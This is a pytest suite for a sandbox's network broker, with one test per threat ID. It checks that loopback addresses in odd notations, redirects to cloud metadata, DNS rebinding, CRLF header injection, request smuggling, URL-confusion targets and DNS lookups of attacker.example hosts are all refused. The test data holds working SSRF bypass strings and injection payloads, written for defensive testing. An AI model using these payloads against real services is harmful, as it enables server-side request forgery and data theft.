"""The network's threats, one test per ID of docs/threat-model.md. Servers are on loopback; other names are made up."""

from __future__ import annotations

import gzip
import time

import pytest

from tests.wasm_tools.network.conftest import LOCAL, policy
from tests.wasm_tools.network.servers import Server, server_context
from vesicle import Effect, Fixtures, Limits, Network, NetworkRule, Reply, Session
from vesicle.wasm_tools.network import broker as broker_module

ANYWHERE = NetworkRule(Effect.ALLOW, "**")
SECRET = "sesame-open-0123456789"


@pytest.fixture
def connected(monkeypatch):
    """The addresses of each connection that was asked for; none is made."""
    asked: list[list[str]] = []

    def connect(addresses, port, timeout_s, poll):
        asked.append(list(addresses))
        raise broker_module.NetworkError("refused", "Connection refused")

    monkeypatch.setattr(broker_module, "connect", connect)
    return asked


@pytest.fixture
def names(monkeypatch):
    """Names that resolve as a test says, and what was looked up."""
    known: dict[str, list[list[str]]] = {}
    asked: list[str] = []

    def resolve(host, timeout_s, poll):
        asked.append(host)
        answers = known[host]
        return answers.pop(0) if len(answers) > 1 else answers[0]

    monkeypatch.setattr(broker_module, "resolve", resolve)
    known["asked"] = asked
    return known


def python(session: Session, script: str):
    session.files.write_text("/workspace/script.py", script)
    return session.run("python3 script.py")


_LOOPBACK = [
    "127.0.0.1",
    "127.1",
    "0x7f.1",
    "0x7f000001",
    "2130706433",
    "017700000001",
    "127.0.0.1.",
    "[::ffff:127.0.0.1]",
]
_LOOPBACK += [
    "[::ffff:7f00:1]",
    "[::127.0.0.1]",
    "[64:ff9b::7f00:1]",
    "[::1]",
    "localhost",
    "LOCALHOST.",
    "a.localhost",
]
_LOOPBACK += ["0", "0.0.0.0", "[::]", "１２７.0.0.1", "allowed.example@127.0.0.1", "%31%32%37.0.0.1"]


@pytest.mark.parametrize("host", _LOOPBACK)
def test_net_01_private_addresses_in_any_notation(host: str, server: Server) -> None:
    with Session(policy(ANYWHERE)) as session:
        ended = session.run(f"curl -s 'http://{host}:{server.server_port}/'")
    assert ended.exit_code in (3, 7)
    assert (ended.stdout, server.seen) == ("", [])


@pytest.mark.parametrize(
    "address", ["10.0.0.1", "172.16.0.1", "192.168.0.1", "100.64.0.1", "169.254.1.1", "fe80::1", "fd00::1"]
)
def test_net_01_names_of_private_addresses(address: str, names) -> None:
    names["public.example"] = [[address]]
    with Session(policy(ANYWHERE)) as session:
        ended = session.run("curl -sS http://public.example/")
    assert ended.exit_code == 7
    assert f"no rule allows {address}, which is not of the public network" in ended.stderr


def test_net_02_redirects_to_where_nothing_is_allowed(server: Server) -> None:
    inner = Server()
    only = NetworkRule(Effect.ALLOW, "127.0.0.1", server.server_port)
    script = f"""
import urllib.request
try: urllib.request.urlopen("{server.url}/redirect?to={inner.url}/")
except urllib.error.URLError as error: print(type(error.reason).__name__)
"""
    with Session(policy(only)) as session:
        for program in ("curl -sS -L", "wget -qO-"):
            ended = session.run(f'{program} "{server.url}/redirect?to={inner.url}/"')
            assert ended.exit_code in (4, 7)
            assert ended.denials
        assert python(session, script).stdout == "PermissionError\n"
        for target in ("http://169.254.169.254/latest/", "file:///etc/passwd", "gopher://127.0.0.1:1/"):
            assert session.run(f'curl -s -L "{server.url}/redirect?to={target}"').exit_code in (1, 7)
    assert inner.seen == []
    inner.stop()


def test_net_03_a_name_that_changes_its_address(server: Server, names, connected) -> None:
    names["rebind.example"] = [["93.184.216.34"], ["127.0.0.1"]]
    with Session(policy(ANYWHERE)) as session:
        session.run(f"curl -s http://rebind.example:{server.server_port}/")
        assert names["asked"] == ["rebind.example"]
        assert connected == [["93.184.216.34"]]
        assert session.run(f"curl -s http://rebind.example:{server.server_port}/").exit_code == 7
    assert connected == [["93.184.216.34"]]


def test_net_03_of_several_addresses_only_the_public_ones_are_tried(names, connected) -> None:
    names["both.example"] = [["127.0.0.1", "93.184.216.34", "::1"]]
    with Session(policy(ANYWHERE)) as session:
        session.run("curl -s http://both.example/")
    assert connected == [["93.184.216.34"]]


@pytest.mark.parametrize("address", ["169.254.169.254", "168.63.129.16", "100.100.100.200", "fd00:ec2::254"])
def test_net_04_metadata_of_clouds(address: str, names) -> None:
    names["meta.example"] = [[address]]
    host = f"[{address}]" if ":" in address else address
    with Session(policy(NetworkRule(Effect.ALLOW, "**", private=True))) as session:
        assert session.run(f"curl -s http://{host}/").exit_code == 7
        assert session.run("curl -s http://meta.example/").exit_code == 7
        assert session.run(f"curl -s 'http://[::ffff:{address}]/'").exit_code in (3, 7)


def test_net_05_credentials_stay_with_their_host(server: Server) -> None:
    other = Server()
    options = "-u user:pass -H 'Authorization: Bearer x' -H 'Cookie: a=b' -b c=d"
    with Session(policy(*LOCAL)) as session:
        for where in (f"{other.url}/echo", f"http://localhost:{server.server_port}/echo"):
            said = session.run(f'curl -s -L {options} "{server.url}/redirect?to={where}"').stdout.lower()
            assert '"host"' in said
            assert "authorization" not in said
            assert "cookie" not in said
        kept = session.run(f'curl -s -L {options} "{server.url}/redirect?to=/echo"').stdout.lower()
        assert "authorization" in kept
    other.stop()


@pytest.mark.parametrize(
    "command",
    [
        r"curl -s -H $'X-A: b\r\nX-Evil: 1' $U/echo",
        r"curl -s -A $'a\r\nX-Evil: 1' $U/echo",
        r"curl -s -e $'a\nX-Evil: 1' $U/echo",
        r"curl -s -b $'a=b\r\nX-Evil: 1' $U/echo",
        r"curl -s -X $'GET / HTTP/1.1\r\nX-Evil: 1\r\n\r\nGET' $U/echo",
        r"curl -s $U$'/echo HTTP/1.1\r\nX-Evil: 1\r\n\r\n'",
        r"curl -s --oauth2-bearer $'a\r\nX-Evil: 1' $U/echo",
        r"wget -qO- --header=$'X-A: b\r\nX-Evil: 1' $U/echo",
        r"wget -qO- -U $'b\r\nX-Evil: 1' $U/echo",
    ],
)
def test_net_06_headers_within_values(command: str, server: Server) -> None:
    with Session(policy(*LOCAL)) as session:
        assert session.run(command, env={"U": server.url}).exit_code != 0
    assert server.seen == []


def test_net_06_headers_within_names_of_forms(server: Server) -> None:
    with Session(policy(*LOCAL)) as session:
        session.run(r"""curl -s -F $'a"\r\nX-Evil: 1\r\n\r\n=b' $U/echo""", env={"U": server.url})
    assert b'name="a%22%0D%0AX-Evil: 1%0D%0A%0D%0A"' in server.seen[0][3]


def _raw(server: Server, request: str) -> str:
    return f"""
import socket
sock = socket.create_connection(("127.0.0.1", {server.server_port}))
sock.sendall({request!r}.encode("latin-1"))
try: print(sock.recv(4000))
except OSError as error: print("refused", error.strerror)
"""


@pytest.mark.parametrize(
    "request_text",
    [
        "GET http://evil.example/ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
        "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example\r\n\r\n",
        "GET /\tx HTTP/1.1\r\nHost: a\r\n\r\n",
        "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\nContent-Length: 5\r\n\r\nabcde",
        "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n",
        "SSH-2.0-client\r\n\r\n",
        "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + "x" * 600,
    ],
)
def test_net_07_requests_that_are_none_or_name_another_host(request_text: str, server: Server) -> None:
    with Session(policy(*LOCAL)) as session:
        assert python(session, _raw(server, request_text)).stdout.startswith("refused")
    assert server.seen == []


def _asked(server: Server, targets: list[str]) -> str:
    return f"""
import socket
for target in {targets!r}:
    sock = socket.create_connection({server.server_address[:2]!r})
    sock.sendall(b"GET " + target.encode("latin-1") + b" HTTP/1.1\\r\\nHost: a\\r\\nConnection: close\\r\\n\\r\\n")
    try: print(sock.recv(4000).split()[1].decode())
    except OSError as error: print("refused")
"""


@pytest.mark.parametrize("host", ["127.0.0.1", "::1"])
def test_net_07_targets_may_name_their_own_host(host: str) -> None:
    server = Server(host=host)
    place = f"[{host}]" if ":" in host else host
    port = server.server_port
    targets = {
        f"http://{place}/echo?a=b/c": "/echo?a=b/c",
        f"http://{place}:{port}/echo": "/echo",
        f"http://{place}": "/",
        f"http://{place}:{port}": "/",
        f"http://{place}:": "/",
        f"http://{place}?q=1": "/?q=1",
        f"http://{place}:{port}?q=http://evil.example/": "/?q=http://evil.example/",
        f"http://u@{place}/echo": "/echo",
        f"http://u:p@{place}:{port}/echo": "/echo",
        f"http://evil.example:80@{place}/echo": "/echo",
        f"HTTP://{place}/a@evil.example/": "/a@evil.example/",
        "/echo?a=http://evil.example/": "/echo?a=http://evil.example/",
    }
    try:
        with Session(policy(NetworkRule(Effect.ALLOW, host))) as session:
            said = python(session, _asked(server, [*targets])).stdout.split()
        assert "refused" not in said
        assert [path for _, path, *_ in server.seen] == [*targets.values()]
        assert {headers["Host"] for _, _, headers, _ in server.seen} == {f"{place}:{port}"}
    finally:
        server.stop()


def test_net_07_targets_that_name_another_host_in_other_words(server: Server) -> None:
    here, port = "127.0.0.1", server.server_port
    targets = [
        "http://evil.example/echo",
        "http://evil.example",
        "http://evil.example?@127.0.0.1/",
        f"http://evil.example?@{here}:{port}/",
        f"http://{here}@evil.example/",
        f"http://{here}:{port}@evil.example/",
        f"http://{here}:{port}@evil.example:{port}/",
        f"http://evil.example#@{here}/",
        f"http://evil.example#@{here}:{port}/",
        f"http://evil.example/@{here}:{port}/",
        f"http://{here}\\@evil.example/",
        f"http://evil.example\\@{here}/",
        f"http://evil.example\\@{here}:{port}/",
        f"http://evil.example\\.{here}/",
        f"http://{here}%00.evil.example/",
        f"http://{here}%2fevil.example/",
        f"http://{here}\t@evil.example/",
        f"http://{here}\t/",
        f"http://evil.example\x00@{here}/",
        f"http://{here}\x7f/",
        f"http://[{here}]@evil.example/",
        f"http://{here}:80:80/",
        f"http://[::ffff:{here}]evil.example/",
        f"http://evil[::ffff:{here}]/",
        "http://[::1/",
        "http://[::2]/",
        "http:///echo",
        "http://@/echo",
        "http://:80/echo",
    ]
    with Session(policy(*LOCAL)) as session:
        said = python(session, _asked(server, targets)).stdout.split()
    assert said == ["refused"] * len(targets)
    assert server.seen == []


def test_net_07_the_host_header_is_ours(server: Server) -> None:
    request = "GET /echo HTTP/1.1\r\nHost: internal.example\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n"
    with Session(policy(*LOCAL)) as session:
        assert (
            "internal.example"
            not in session.run("curl -s -H 'Host: internal.example' $U/echo", env={"U": server.url}).stdout
        )
        assert "200 OK" in python(session, _raw(server, request)).stdout
    for _, _, headers, _ in server.seen:
        assert headers["Host"] == f"127.0.0.1:{server.server_port}"
        assert "Upgrade" not in headers


def test_net_08_two_lengths_of_one_request(server: Server) -> None:
    """Whatever the guest says, the server gets one request with one length."""
    request = "POST /back HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nabcde\r\n0\r\n\r\n"
    with Session(policy(*LOCAL)) as session:
        python(session, _raw(server, request))
    for _, _, headers, body in server.seen:
        assert not ("Content-Length" in headers and "Transfer-Encoding" in headers)
        assert body == b"abcde"


_ADMIN = ["/admin", "/admin/x", "/a/../admin", "/a/%2e%2e/admin", "/%61dmin", "//admin", "/./admin", "/a/..%2fadmin"]
_ADMIN += ["/%2561dmin", "/a/..;/admin", "/a/..%5cadmin", "/admin?x", "/admin/"]


@pytest.mark.parametrize("path", _ADMIN)
def test_net_09_paths_in_other_words(path: str, server: Server) -> None:
    rules = (*LOCAL, NetworkRule(Effect.DENY, "**", paths=("/admin",)))
    with Session(policy(*rules)) as session:
        assert session.run(f"curl -s --path-as-is '{server.url}{path}'").exit_code == 7
        assert session.run(f"curl -s --path-as-is '{server.url}/administration'").exit_code == 0
    assert [seen for _, seen, *_ in server.seen] == ["/administration"]


def _with_secret(server: Server) -> Network:
    return Network(inject={server.url: {"Authorization": f"Bearer {SECRET}", "X-Key": "key-of-the-host"}})


def test_net_10_secrets_go_out_and_do_not_come_back(server: Server) -> None:
    script = f"""
import urllib.request
answer = urllib.request.urlopen("{server.url}/echo")
print(answer.read(), answer.headers)
"""
    with Session(policy(*LOCAL), network=_with_secret(server)) as session:
        said = session.run("curl -v -s -i $U/echo; curl -s -w '%{json}' $U/echo; env; set", env={"U": server.url})
        inside = python(session, script)
    assert all(headers["Authorization"] == f"Bearer {SECRET}" for _, _, headers, _ in server.seen)
    assert len(server.seen) == 3
    for text in (said.stdout, said.stderr, inside.stdout, str(said.denials)):
        assert SECRET not in text
        assert "key-of-the-host" not in text
    assert "Bearer *****" in said.stdout or "*" * len(SECRET) in said.stdout


def test_net_10_secrets_in_pieces_encoded_and_elsewhere() -> None:
    answers = {
        "https://api.example/json": lambda request: {"token": request.headers["authorization"]},
        "https://api.example/gzip": Reply(gzip.compress(SECRET.encode()), headers={"Content-Encoding": "gzip"}),
        "https://api.example/head": lambda request: Reply("", headers={"X-Echo": request.headers["authorization"]}),
        "https://api.example/long": "x" * 65530 + SECRET + "y" * 10,
        "https://api.example/range": lambda request: str("range" in request.headers),
        "https://api.example/basic": "user:pass-phrase",
        "https://other.example/": lambda request: str(request.headers) + SECRET,
        "http://api.example/": lambda request: str(request.headers),
    }
    inject = {"api.example": {"Authorization": f"Bearer {SECRET}", "X-Basic": "Basic dXNlcjpwYXNzLXBocmFzZQ=="}}
    with Session(
        policy(NetworkRule(Effect.ALLOW, "*.example"), NetworkRule(Effect.ALLOW, "api.example")),
        network=Fixtures(answers, inject=inject),
    ) as session:
        for name in ("json", "head", "long", "basic"):
            said = session.run(f"curl -s -i https://api.example/{name}").stdout
            assert SECRET not in said
            assert "pass-phrase" not in said
            assert "***" in said
        assert session.run("curl -s --compressed https://api.example/gzip").exit_code != 0
        assert session.run("curl -s -r 0-3 https://api.example/range").stdout == "False"
        said = session.run("curl -s https://other.example/; curl -s http://api.example/").stdout
        assert "authorization" not in said
        assert SECRET not in said


def test_net_11_nothing_of_the_hosts_environment(server: Server, monkeypatch, tmp_path) -> None:
    for name in ("http_proxy", "HTTPS_PROXY", "ALL_PROXY", "all_proxy"):
        monkeypatch.setenv(name, "http://127.0.0.1:1")
    (tmp_path / ".netrc").write_text("machine 127.0.0.1 login host password hunter22\n")
    (tmp_path / ".netrc").chmod(0o600)
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("NETRC", str(tmp_path / ".netrc"))
    with Session(policy(*LOCAL)) as session:
        ended = session.run("http_proxy=http://127.0.0.1:1 curl -s $U/echo", env={"U": server.url})
    assert ended.exit_code == 0
    assert "Authorization" not in ended.stdout


def test_net_12_answers_without_end(server: Server) -> None:
    with Session(policy(*LOCAL), limits=Limits(response_bytes=1 << 20)) as session:
        ended = session.run(f'curl -s "{server.url}/big?n=50000000" | wc -c')
    assert int(ended.stdout) <= 1 << 20
    assert ended.limit is not None
    assert ended.limit.name == "response_bytes"


def test_net_13_sockets_without_end(server: Server) -> None:
    script = f"""
import socket
kept = []
try:
    for _ in range(20): kept.append(socket.create_connection(("127.0.0.1", {server.server_port})))
except OSError as error: print(len(kept), error.strerror)
for sock in kept: sock.close()
"""
    with Session(policy(*LOCAL), limits=Limits(network_connections=5)) as session:
        ended = python(session, script)
        assert ended.stdout == "5 No buffer space available\n"
        assert ended.limit is not None
        assert ended.limit.name == "network_connections"
        assert session.run(f"curl -s {server.url}/").stdout == "hello\n"


def test_net_14_every_request_is_in_the_log_and_no_secret(server: Server) -> None:
    records = []
    with Session(policy(*LOCAL), audit=records.append, network=_with_secret(server)) as session:
        session.run(f"curl -s -u user:hunter22 '{server.url}/echo?token=hunter22'; curl -s http://denied.example/x")
        python(session, f"import urllib.request\nurllib.request.urlopen('{server.url}/')")
    fetched = [(record.decision, record.object) for record in records if record.syscall == "fetch"]
    assert fetched == [("allow", f"GET {server.url}/echo"), ("allow", f"GET {server.url}/")]
    assert [record.object for record in records if record.decision == "deny" and record.syscall == "connect"] == [
        "denied.example:80"
    ]
    assert "hunter22" not in str([record.as_dict() for record in records])
    assert SECRET not in str([record.as_dict() for record in records])


def test_net_15_certificates_are_verified_whatever_a_guest_wants(authority) -> None:
    server = Server(server_context(authority.parent))
    script = f"""
import ssl, urllib.request
context = ssl.create_default_context()
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
try: print(urllib.request.urlopen("{server.url}/", context=context).read())
except urllib.error.URLError as error: print(type(error.reason).__name__)
"""
    with Session(policy(*LOCAL)) as session:
        assert session.run(f"curl -s {server.url}/").exit_code == 60
        assert session.run(f"curl -s -k {server.url}/").exit_code == 2
        assert session.run(f"wget -q --no-check-certificate {server.url}/").exit_code == 2
        assert python(session, script).stdout == "SSLCertVerificationError\n"
    assert server.seen == []
    server.stop()


def test_net_16_no_cookies_are_kept(server: Server) -> None:
    with Session(policy(*LOCAL)) as session:
        ended = session.run("curl -s -o /dev/null $U/cookie $U/cookie; curl -s $U/echo $U/echo", env={"U": server.url})
    assert "Cookie" not in ended.stdout


def test_net_17_a_permission_that_is_withdrawn(server: Server) -> None:
    script = f"""
import http.client, sys
connection = http.client.HTTPConnection("127.0.0.1", {server.server_port})
connection.request("GET", "/")
print(connection.getresponse().read(), flush=True)
sys.stdin.readline()
connection.request("GET", "/")
try: print(connection.getresponse().read())
except OSError as error: print(type(error).__name__)
"""
    with Session(policy(*LOCAL)) as session:
        session.files.write_text("/workspace/script.py", script)
        session.run("mkfifo go")
        running = session.start("python3 script.py < go > out")
        session.run("exec 9> go")
        _until(lambda: "hello" in session.files.read_text("/workspace/out"))
        session.policy = policy()
        session.run("echo >&9; exec 9>&-")
        running.wait()
        assert session.files.read_text("/workspace/out") == "b'hello\\n'\nPermissionError\n"
    assert len(server.seen) == 1


def _until(condition) -> None:
    while not condition():
        time.sleep(0.01)


def test_net_18_names_that_are_not_allowed_are_not_looked_up(names) -> None:
    names["allowed.example"] = [["93.184.216.34"]]
    with Session(policy(NetworkRule(Effect.ALLOW, "allowed.example"))) as session:
        session.run("curl -s http://data-that-leaks.attacker.example/; wget -q http://x.attacker.example/")
        python(session, "import socket\nsocket.gethostbyname('y.attacker.example')")
        python(session, "import socket\nprint(socket.gethostbyname('allowed.example'))")
    assert names["asked"] == ["allowed.example"]
